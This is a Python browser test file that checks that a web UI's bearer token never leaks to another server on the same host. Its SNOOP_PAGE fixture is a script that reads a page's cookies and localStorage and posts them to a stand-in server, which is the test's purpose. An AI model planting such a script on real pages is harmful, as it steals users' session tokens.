"""The UI's bearer token never reaches another origin, in a real browser (Debian's Chromium,
driven by playwright, as in ``test_ui_browser.py``).

Cookies ignore ports: a cookie set by the KaaS UI on 127.0.0.1:A is sent to every server on
127.0.0.1, and a page any of them serves can read it unless it is HttpOnly. So the token must
live only where the browser scopes it to the origin (localStorage, port included) and leave
only as the Authorization header of the UI's own requests. A second tiny HTTP server on another
port of 127.0.0.1 stands for "any other web server on this machine": it records every request
header and serves a page whose script reads ``document.cookie`` and its ``localStorage``.
"""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from browser_support import KaasServer, ask, browser_page

pytestmark = pytest.mark.slow  # drives a real browser

TOKEN = "token-that-must-stay-home-7f3a9c"

SNOOP_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>another server</title></head>
<body><p>Another web server on this machine.</p>
<script>
  window.__seen = {cookie: document.cookie, storage: JSON.stringify(Object.assign({}, localStorage))};
  fetch("/report", {method: "POST", body: JSON.stringify(window.__seen)}).then(() => { document.title = "reported"; });
</script></body></html>"""


class OtherServer:
    """A plain HTTP server on another port of 127.0.0.1 that remembers every request's headers
    and every report its page's script posts back."""

    def __init__(self):
        self.requests: list[dict[str, str]] = []
        self.reports: list[dict[str, str]] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def _record(self) -> None:
                outer.requests.append({k.lower(): v for k, v in self.headers.items()})

            def do_GET(self) -> None:  # noqa: N802 - http.server's naming
                self._record()
                body = SNOOP_PAGE.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:  # noqa: N802
                self._record()
                length = int(self.headers.get("Content-Length") or 0)
                outer.reports.append(json.loads(self.rfile.read(length) or b"{}"))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"

    def __enter__(self) -> "OtherServer":
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()

    def leaks(self) -> list[str]:
        found = []
        for headers in self.requests:
            found += [f"request header {name}" for name, value in headers.items() if TOKEN in value]
        for report in self.reports:
            found += [f"script read {name}" for name, value in report.items() if TOKEN in str(value)]
        return found


def _enter_token(page, url: str) -> None:
    page.goto(url + "/")
    page.wait_for_selector("#token-dialog[open]")
    page.fill("#token-input", TOKEN)
    page.click("#token-dialog button[value=ok]")
    page.wait_for_selector("body.ready")


def _visit_other_server(page, other: OtherServer) -> None:
    page.goto(other.url + "/")
    page.wait_for_function("document.title === 'reported'")


def test_the_token_entered_in_the_ui_never_reaches_another_port(browser, ui_kb):  # noqa: F811
    with (KaasServer(ui_kb.root, env={"KAAS_API_TOKEN": TOKEN}) as kaas, OtherServer() as other,
          browser_page(browser) as (page, errors)):
        _enter_token(page, kaas.url)
        ask(page, "deployment behind a proxy")  # the token works: an answer came
        _visit_other_server(page, other)
        assert other.requests and other.reports, "the other server was not visited"
        assert other.leaks() == []
        assert "kaas_token" not in other.reports[0]["cookie"]
        assert TOKEN not in json.dumps(page.context.cookies())  # no cookie holds it, HttpOnly or not
        assert not [e for e in errors if "401" not in e], errors  # the 401 is how the UI learns it needs the token


def test_a_token_cookie_left_by_an_earlier_version_is_deleted_on_load(browser, ui_kb):  # noqa: F811
    with (KaasServer(ui_kb.root, env={"KAAS_API_TOKEN": TOKEN}) as kaas, OtherServer() as other,
          browser_page(browser) as (page, _)):
        # What earlier versions of the UI wrote: readable by scripts, path /, every port.
        page.context.add_cookies([{"name": "kaas_token", "value": TOKEN, "domain": "127.0.0.1", "path": "/",
                                   "sameSite": "Strict"}])
        _enter_token(page, kaas.url)
        assert [c for c in page.context.cookies() if c["name"] == "kaas_token"] == []
        _visit_other_server(page, other)
        assert other.leaks() == []


def test_the_server_takes_no_token_from_a_cookie_and_pages_still_open_in_the_app(browser, ui_kb):  # noqa: F811
    with KaasServer(ui_kb.root, env={"KAAS_API_TOKEN": TOKEN}) as kaas, browser_page(browser) as (page, _):
        page.context.add_cookies([{"name": "kaas_token", "value": TOKEN, "domain": "127.0.0.1", "path": "/"}])
        response = page.goto(kaas.url + "/wiki/ops/deployment.md")  # a cookie alone opens nothing
        assert response.status == 401 and page.locator("#open-in-app").count() == 1
        page.context.clear_cookies()
        _enter_token(page, kaas.url)
        page.goto(kaas.url + "/#/wiki/ops/deployment.md")
        page.wait_for_selector(".wiki-article h1:has-text('Deployment')")
        # The article's "Page" link opens it in a new tab of the app, which has the token.
        with page.context.expect_page() as opened:
            page.click(".wiki-article .actions a:has-text('Page')")
        tab = opened.value
        tab.set_default_timeout(10_000)
        tab.wait_for_selector(".wiki-article h1:has-text('Deployment')")
        assert tab.url == kaas.url + "/#/wiki/ops/deployment.md"


@pytest.fixture(autouse=True)
def _no_proxy(monkeypatch):
    for name in ("http_proxy", "HTTP_PROXY", "all_proxy", "ALL_PROXY"):
        monkeypatch.delenv(name, raising=False)


def test_the_token_dialog_works_from_the_keyboard(browser, ui_kb):  # noqa: F811
    """Enter in the token field continues with that token (the form's default button is
    "Continue", not "Cancel"); a wrong token typed with Enter is answered "refused"; Escape
    cancels without storing anything (the app still needs a token, so it may ask again)."""
    with KaasServer(ui_kb.root, env={"KAAS_API_TOKEN": TOKEN}) as kaas, browser_page(browser) as (page, _):
        page.goto(kaas.url + "/")
        page.wait_for_selector("#token-dialog[open]")
        page.fill("#token-input", "typed-then-cancelled")
        page.keyboard.press("Escape")
        page.wait_for_timeout(200)
        assert page.evaluate("Object.keys(localStorage).length") == 0
        page.goto(kaas.url + "/")
        page.wait_for_selector("#token-dialog[open]")
        page.fill("#token-input", "not-the-token")
        page.press("#token-input", "Enter")
        page.wait_for_selector("#token-dialog[open] #token-refused:not([hidden])")
        page.fill("#token-input", TOKEN)
        page.press("#token-input", "Enter")
        page.wait_for_selector("body.ready")
        assert TOKEN in json.dumps(page.evaluate("Object.assign({}, localStorage)"))
        ask(page, "deployment behind a proxy")  # the stored token works
